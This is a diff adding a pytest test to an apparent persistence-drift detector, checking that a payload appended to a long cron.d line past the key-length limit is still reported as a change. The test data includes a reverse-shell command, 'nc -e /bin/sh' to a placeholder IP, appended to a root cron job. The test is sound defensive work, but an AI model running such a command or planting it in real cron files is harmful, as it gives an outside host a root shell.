@@ -106,3 +106,12 @@ def test_a_baseline_replaced_by_a_directory_or_a_fifo_is_an_error(tmp_path):
 def test_observe_keeps_its_contract_for_an_unread_persistence():
     assert dr.observe_persistence(view(None, None)) is None
     assert dr.observe_persistence(view(None, replace(Persistence(), read=False))) is None
+
+
+def test_a_payload_appended_past_the_key_length_is_new(root):
+    base = "* * * * * root /usr/local/bin/report --verbose " + "--flag " * 60
+    (root / "etc/cron.d/job").write_text(base + "\n")
+    before = set(dr.observe_cron(view(run_drift(root))))
+    (root / "etc/cron.d/job").write_text(base + "; nc -e /bin/sh 192.0.2.1 1\n")
+    after = set(dr.observe_cron(view(run_drift(root))))
+    assert after != before and all(len(k) <= dr.MAX_TEXT for k in after)
